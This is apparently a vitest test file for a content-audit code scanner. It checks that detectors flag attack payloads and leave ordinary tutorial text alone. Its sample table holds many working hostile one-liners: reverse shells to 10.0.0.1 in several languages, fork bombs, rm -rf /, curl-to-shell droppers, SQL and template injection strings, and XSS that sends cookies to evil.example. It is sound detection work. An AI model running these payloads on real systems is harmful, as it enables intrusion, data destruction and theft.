import { describe, expect, it } from 'vitest';
import { CODE_RULES, createCodeScanner, type CodeScannerOptions } from '../../../../functions/audit/scanners/code';
import { CodeFeatures } from '../../../../functions/audit/scanners/code-features';
import { MARKUP_DETECTORS } from '../../../../functions/audit/scanners/code-markup-detectors';
import { SHELL_DETECTORS } from '../../../../functions/audit/scanners/code-shell-detectors';
import { SQL_DETECTORS } from '../../../../functions/audit/scanners/code-sql-detectors';
import type { ScanHit } from '../../../../functions/audit/text-scanner';

function scan(text: string, options?: CodeScannerOptions): Array<{ rule: string; value: string }> {
  const out: ScanHit[] = [];
  createCodeScanner(options).scan(text, (h) => out.push(h));
  return out.map((h) => ({ rule: h.rule, value: text.slice(h.start, h.end) }));
}
const rules = (text: string, options?: CodeScannerOptions) => [...new Set(scan(text, options).map((h) => h.rule))];

/** Payloads by the rule they must raise (in a non-code corpus). */
const PAYLOADS: Record<string, string[]> = {
  'code.reverse-shell': [
    'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
    'nc -e /bin/sh 10.0.0.1 4242',
    'ncat 10.0.0.1 4242 -e /bin/bash',
    'nc.exe -e cmd.exe 10.0.0.1 4444',
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f',
    'socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr,setsid,sigint,sane',
    `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")'`,
    `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
    `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    `$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}`,
    'telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243',
  ],
  'code.fork-bomb': [':(){ :|:& };:', ': () { : | : & } ; :', 'bomb() { bomb | bomb & }; bomb', '%0|%0', `perl -e "fork while fork" &`],
  'code.destructive-command': [
    'sudo rm -rf /',
    'rm -rf --no-preserve-root /',
    'rm -fr /*',
    'rm -rf ~',
    'rm -r -f $HOME',
    'rd /s /q C:\\',
    'chmod -R 777 /',
  ],
  'code.dropper': [
    'curl http://45.9.148.1/x.sh | sh',
    'wget -qO- http://185.22.1.9:8080/i | sudo bash',
    'curl -s https://pastebin.com/raw/abc123 | bash',
    'bash <(curl -s http://203.0.113.9.nip.io.xyz.ngrok.io/run)',
    'echo ZWNobyBoaQ== | base64 -d | bash',
    "IEX (New-Object Net.WebClient).DownloadString('http://10.1.1.1/a.ps1')",
    'powershell -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
    'cd /tmp; wget http://45.9.148.1/bins.sh; chmod 777 bins.sh; sh bins.sh',
    'certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe',
    'regsvr32 /s /n /u /i:http://10.0.0.5/file.sct scrobj.dll',
    "exec(base64.b64decode('aW1wb3J0IG9z'))",
  ],
  'code.pipe-to-shell': [
    'curl -fsSL https://get.docker.com | sh',
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    'irm https://get.scoop.sh | iex',
  ],
  'code.command-injection': [
    '127.0.0.1; cat /etc/passwd',
    'ip=8.8.8.8 | whoami',
    "'; id #",
    '/ping?host=127.0.0.1%0aid',
    '/lookup?name=$(whoami)',
    '/api?q=`id`',
  ],
  'code.path-traversal': ['GET /download?file=../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/static/..%2f..%2f..%2fetc%2fpasswd'],
  'code.sql-tautology': ["' OR '1'='1", '" or ""="', "admin') or ('a'='a", "' OR 1=1--", "1 AND 1=1--"],
  'code.sql-union-select': [
    "' UNION SELECT NULL,NULL,NULL--",
    '-1 UNION SELECT 1,2,3,@@version--',
    "' union all select username, password from users--",
    "1 UNION SELECT table_name FROM information_schema.tables",
  ],
  'code.sql-stacked-query': ["Robert'); DROP TABLE Students;--", "'; DELETE FROM users WHERE 1=1; --", '1; DROP TABLE users--'],
  'code.sql-comment-tail': ["admin'--", "admin' -- ", "admin'#"],
  'code.sql-time-based': ["1' AND SLEEP(5)--", '1 or benchmark(5000000,md5(1))', "'; WAITFOR DELAY '0:0:5'--", "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--"],
  'code.sql-os-command': ["EXEC xp_cmdshell 'dir'"],
  'code.template-probe': ['{{7*7}}', '${7*7}', "{{7*'7'}}", '<%= 7*7 %>', '#{7*7}', '{{config}}'],
  'code.template-injection': [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '{{ config.__class__ }}',
    '{{_self.env.registerUndefinedFilterCallback("exec")}}',
    "{{['id']|filter('system')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }',
    '<%= `id` %>',
    '<%= system("whoami") %>',
    "{{ request|attr('__class__') }}",
    "#{root.process.mainModule.require('child_process').execSync('id')}",
  ],
  'code.xss-payload': [
    '<script>alert(document.cookie)</script>',
    "<SCRIPT>alert('XSS')</SCRIPT>",
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=fetch("//evil.example/?c="+document.cookie)>',
    '<details open ontoggle=confirm(1)>',
    '<iframe src=javascript:alert(1)>',
    '<a href="javascript:eval(atob(\'YWxlcnQoMSk=\'))">x</a>',
    '" onmouseover="alert(1)',
    '<body onload=alert(String.fromCharCode(88,83,83))>',
  ],
};

/** Ordinary technical prose and code that a non-code corpus holds in every tutorial answer. */
const ORDINARY = [
  'Run `npm install` and then `npm test`. To see your user run `whoami` in a terminal.',
  'SELECT name FROM users WHERE id = 1;',
  'SELECT id FROM orders UNION SELECT id FROM archived_orders ORDER BY id;',
  "INSERT INTO users (name) VALUES ('bob'); INSERT INTO users (name) VALUES ('ann');",
  'In Jinja you write {{ name }} and {% for item in items %}{{ item.title }}{% endfor %}.',
  'Hello {{ user.first_name }}, your order #{{ order.id }} ships today.',
  'const msg = `Hello ${name}, you have ${count} messages`;',
  '<script src="https://cdn.example.com/app.js"></script> loads the bundle.',
  '<button onclick="save()">Save</button> <img src="logo.png" onerror="this.style.display=\'none\'">',
  '<a href="javascript:void(0)" onclick="toggle()">Menu</a>',
  'Use `rm -rf node_modules` or `rm -rf /tmp/build/*` to clean up; `sudo rm -rf /var/lib/apt/lists/*` too.',
  'List users with `cat /etc/passwd | cut -d: -f1`.',
  'The config lives in ../config/settings.json and ../../shared/utils.ts.',
  'In Python, time.sleep(5) pauses; in JS, await sleep(1000) does the same.',
  'Use WAITFOR DELAY in T-SQL procedures to pause a batch.',
  "print(obj.__class__.__name__) and self.__dict__ are common in Python debugging.",
  'The result is 7*7 = 49, and {x: 7*7} is an object literal.',
  'chmod +x script.sh && ./script.sh',
  'curl -o /tmp/tool https://github.com/org/tool/releases/download/v1/tool && chmod +x /tmp/tool && /tmp/tool --version',
  'exec 3<>/dev/tcp/www.example.com/80; echo -e "GET / HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n" >&3; cat <&3',
  'nc -zv example.com 443 checks the port, and nc -l 8080 listens.',
  "It's the user's choice -- and he said 'yes' -- so we went ahead.",
  "Price: $19.99 (20% off) — order #A-1029, 3 items; ship by 2024-05-01.",
  'UUID 550e8400-e29b-41d4-a716-446655440000, sha 3f786850e387550fdab836ed7e6dc881de23001b.',
  'Привет! 你好！مرحبا! नमस्ते! 👨‍👩‍👧‍👦 — the team (me & you) loves R&D; OR 1 = 1 in logic.',
  "The template engine replaces {{user}} with the name; see the 'union' of both sets.",
  'Set PS1="\\u@\\h:\\w\\$ " and CURRENT_USER=$(whoami) in your .bashrc.',
  'git log --oneline | head -n 5 && git status',
  'The <system> tag and {{ system_prompt }} are placeholders in our chat template.',
  // Chat templates described in documentation: Jinja with filters, tests and role markers.
  "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant' }}{% endif %}",
  "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}[INST] {{ message['content'] }} [/INST]",
  '<|begin_of_text|><|start_header_id|>user<|end_header_id|>\n\nHi!<|eot_id|>',
  'Embed an image: ![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
  'Order 1029-7731 on 2024-05-01 at 10:30; total $1,299.00; ref 3f786850e387550fdab836ed7e6dc881de23001b.',
];

describe('code scanner: rule metadata', () => {
  it('has stable, unique code.* ids and every detector reports a known rule', () => {
    const ids = CODE_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of CODE_RULES) expect(r.id).toMatch(/^code\.[a-z-]+$/);
    for (const d of [...SHELL_DETECTORS, ...SQL_DETECTORS, ...MARKUP_DETECTORS]) expect(ids).toContain(d.rule);
  });

  it('has a positive example for every rule', () => {
    for (const r of CODE_RULES) {
      if (r.id === 'code.script-tag') continue; // covered below
      expect(PAYLOADS[r.id], r.id).toBeDefined();
    }
  });
});

describe('code scanner: payloads', () => {
  for (const [rule, examples] of Object.entries(PAYLOADS)) {
    it(`raises ${rule}`, () => {
      for (const text of examples) expect(rules(text), text).toContain(rule);
      // The same payload embedded in prose is still found.
      for (const text of examples) expect(rules(`Try this: ${text} and tell me what happens.`), text).toContain(rule);
    });
  }

  it('reports the payload span, not the whole text', () => {
    expect(scan('Ping it with 127.0.0.1; cat /etc/passwd please')).toEqual([
      { rule: 'code.command-injection', value: '; cat /etc/passwd' },
    ]);
    expect(scan("login as admin'-- then")).toEqual([{ rule: 'code.sql-comment-tail', value: "'--" }]);
    expect(scan('x 1 AND 1=1-- y')).toEqual([{ rule: 'code.sql-tautology', value: 'AND 1=1--' }]);
    expect(scan('run :(){ :|:& };: now')).toEqual([{ rule: 'code.fork-bomb', value: ':(){ :|:& };:' }]);
  });

  it('tells an untrusted script source from a named installer', () => {
    expect(rules('curl -sL http://45.9.148.1/i.sh | bash')).toEqual(['code.dropper']);
    expect(rules('curl -sL https://deb.nodesource.com/setup_20.x | sudo -E bash -')).toEqual(['code.pipe-to-shell']);
    expect(rules('curl -s https://bit.ly/3abcd | sh')).toEqual(['code.dropper']);
  });

  it('keeps a plain <script> tag at a low warning and a payload script high', () => {
    expect(rules('<script>console.log("hi")</script>')).toEqual(['code.script-tag']);
    expect(rules('<script>alert(1)</script>')).toEqual(['code.xss-payload']);
  });
});

describe('code scanner: ordinary technical text', () => {
  it('finds nothing in tutorials, templates, SQL examples and everyday prose', () => {
    for (const text of ORDINARY) {
      const found = scan(text).filter((h) => h.rule !== 'code.script-tag');
      expect(found, text).toEqual([]);
    }
  });

  it('leaves UNION in prose and SQL without payload columns alone', () => {
    expect(rules("The European Union's members met; 'union' is a keyword; SELECT a FROM t UNION SELECT b FROM u WHERE x='1'")).toEqual([]);
  });
});

describe('code scanner: code corpus', () => {
  const codeCorpus = { codeCorpus: true };

  it('still reports reverse shells, droppers, fork bombs and wiping the disk', () => {
    for (const rule of ['code.reverse-shell', 'code.dropper', 'code.fork-bomb', 'code.destructive-command']) {
      for (const text of PAYLOADS[rule]!) expect(rules(text, codeCorpus), text).toEqual([rule]);
    }
  });

  it('says nothing about SQL, templates, HTML, injection probes or named installers', () => {
    for (const rule of [
      'code.pipe-to-shell',
      'code.command-injection',
      'code.path-traversal',
      'code.sql-tautology',
      'code.sql-union-select',
      'code.sql-stacked-query',
      'code.sql-comment-tail',
      'code.sql-time-based',
      'code.sql-os-command',
      'code.template-probe',
      'code.template-injection',
      'code.xss-payload',
    ]) {
      for (const text of PAYLOADS[rule]!) expect(rules(text, codeCorpus), text).toEqual([]);
    }
  });
});

describe('code scanner: gates', () => {
  it('never skips a detector that would report: each gate holds wherever its regex finds a hit', () => {
    const texts = [...Object.values(PAYLOADS).flat(), ...ORDINARY];
    for (const d of [...SHELL_DETECTORS, ...SQL_DETECTORS, ...MARKUP_DETECTORS]) {
      for (const text of texts) {
        d.re.lastIndex = 0;
        let reports = false;
        for (let m = d.re.exec(text); m && !reports; m = d.re.exec(text)) reports = (d.classify ? d.classify(m, text) : d.rule) !== undefined;
        d.re.lastIndex = 0;
        if (reports) expect(d.gate(new CodeFeatures().reset(text)), `${d.rule} ${d.re.source.slice(0, 40)} on ${text}`).toBe(true);
      }
    }
  });

  it('reads slash, dash, colon and quote features', () => {
    const f = new CodeFeatures().reset("rm -rf / ; nc -e /bin/sh; ../x; a://b javascript: 'x' or");
    expect(f.slash).toMatchObject({ bin: true, dotdot: true, lone: true });
    expect(f.dash).toMatchObject({ rm: true, execOption: true, recursiveOption: true });
    expect(f.colon).toMatchObject({ url: true, scriptScheme: true });
    expect(f.quoteBreak).toBe(true);
    const g = new CodeFeatures().reset("It's the user's well-known /path/to/file.");
    expect(g.slash).toMatchObject({ bin: false, dotdot: false, lone: false });
    expect(g.dash).toMatchObject({ rm: false, execOption: false, doubleDash: false });
    expect(g.quoteBreak).toBe(false);
  });
});
